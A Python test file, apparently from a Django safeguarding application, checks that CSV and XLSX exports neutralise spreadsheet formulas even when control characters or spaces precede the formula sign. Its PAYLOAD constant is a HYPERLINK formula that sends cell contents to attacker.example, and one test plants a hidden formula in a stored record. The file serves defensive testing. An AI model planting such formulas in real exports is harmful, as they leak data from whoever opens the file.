"""No cell of a CSV or XLSX export is a formula, whatever control characters or spaces stand in
front of the formula sign (finding 6).

The earlier export test (imports/tests/test_exports.py) sent only printable formula prefixes
("=1+1", "@SUM(A1)", a tab, a CR), which the old code caught; it never put a control character
first. The old `xlsx_bytes` neutralised first and stripped XML-illegal characters after, so
"\\x01=HYPERLINK(...)" passed the check, lost its "\\x01" and reached the workbook as a live
formula; the CSV kept the "\\x01" and no apostrophe.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from safeguarding.core.exports import csv_bytes, neutralise, unneutralise, xlsx_bytes
from safeguarding.core.text import CONTROL_CHARACTERS
from safeguarding.learning.models import Finding
from safeguarding.learning.services import finding_create
from safeguarding.reviews import services as review_services

CONTROLS = [chr(c) for c in [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)]]
LEADS = ["", " ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", " \t "]
PREFIXES = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d"]
PAYLOAD = 'HYPERLINK("https://attacker.example/?d="&A1,"Open")'
VALUES = [
    control + lead + prefix + PAYLOAD
    for control, lead, prefix in itertools.product(CONTROLS, LEADS, PREFIXES)
]


def _assert_inert(text: str, original: str) -> None:
    assert text.startswith("'"), repr(original)
    assert not CONTROL_CHARACTERS.search(text), repr(original)


def test_every_control_character_before_every_formula_prefix_stays_text_in_csv():
    content = csv_bytes(["value"], [[v] for v in VALUES]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))[1:]
    assert len(rows) == len(VALUES) == 65 * len(LEADS) * len(PREFIXES)
    for (cell,), original in zip(rows, VALUES, strict=True):
        _assert_inert(cell, original)


def test_every_control_character_before_every_formula_prefix_stays_text_in_xlsx():
    content = xlsx_bytes({"Values": (["value"], [[v] for v in VALUES])})
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(VALUES)
    formulas = [c.coordinate for c in cells if c.data_type == "f" or str(c.value).startswith("=")]
    assert formulas == []
    for cell, original in zip(cells, VALUES, strict=True):
        _assert_inert(str(cell.value), original)


@pytest.mark.parametrize("value", ["\x01=1+1", " =1+1", "\u0085@SUM(A1)", "\x7f-2", "\n=x"])
def test_a_neutralised_cell_imports_back_as_the_text_without_its_control_characters(value):
    cleaned = unneutralise(neutralise(value))
    assert cleaned == CONTROL_CHARACTERS.sub("", value)


@pytest.mark.django_db
def test_a_stored_finding_with_a_hidden_formula_downloads_as_text(world, client_for):
    """Text stored before the inputs stripped control characters (written straight to the
    table here) still reaches the business unit's download as text."""
    review = review_services.review_create(
        actor=world.business_unit,
        partnership=world.partnership,
        kind="audit",
        title="Audit",
        opened_on=dt.date(2023, 5, 1),
    )
    finding = finding_create(
        actor=world.business_unit, review=review, kind="improvement", text="Plain"
    )
    Finding.objects.filter(pk=finding.pk).update(text='\x01=HYPERLINK("https://x.example")')
    client = client_for(world.business_unit)
    response = client.get(reverse("learning:finding_list") + "?format=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert '\'=HYPERLINK("https://x.example")' in [c.value for c in cells]
